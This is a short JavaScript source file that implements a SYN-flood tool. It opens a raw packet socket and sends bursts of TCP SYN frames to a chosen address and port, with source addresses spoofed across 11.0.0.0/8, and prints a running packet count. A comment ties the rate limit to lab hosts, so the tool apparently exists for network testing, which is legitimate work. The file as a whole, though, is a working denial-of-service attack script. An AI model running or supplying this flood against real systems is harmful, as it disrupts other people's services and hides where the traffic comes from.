/**
 * Runs inside a client: SYNs to one port of one address, from all over 11.0.0.0/8, in bursts, until it is
 * ended; prints how many so far, once a second. Usage: syn-flood DEVICE MAC ADDRESS PORT.
 */
import { interfaceIndex } from '../../src/ffi/bpf-filter.js';
import { AF_PACKET, bindSocket, openSocket, SOCK_RAW } from '../../src/ffi/sockets.js';
import { Syns } from '../dispatch/flood.js';
import { send } from '../dispatch/frames.js';

const [device = '', mac = '', address = '', port = '0'] = process.argv.slice(2);
/** About 30,000 a second: more would starve the hosts of a lab, which share this machine's processors. */
const [atOnce, everyMs] = [64, 2];

const fd = openSocket(AF_PACKET, SOCK_RAW, 0);
// struct sockaddr_ll: family, protocol, interface.
const place = Buffer.alloc(20);
place.writeUInt16LE(AF_PACKET, 0);
place.writeInt32LE(interfaceIndex(device), 4);
bindSocket(fd, place);
const syns = new Syns(mac, address, Number(port));
setInterval(() => {
  for (let count = 0; count < atOnce; count += 1) {
    const frame = syns.next();
    send(fd, frame, frame.length, 0);
  }
}, everyMs);
setInterval(() => process.stdout.write(`${syns.made}\n`), 1_000);
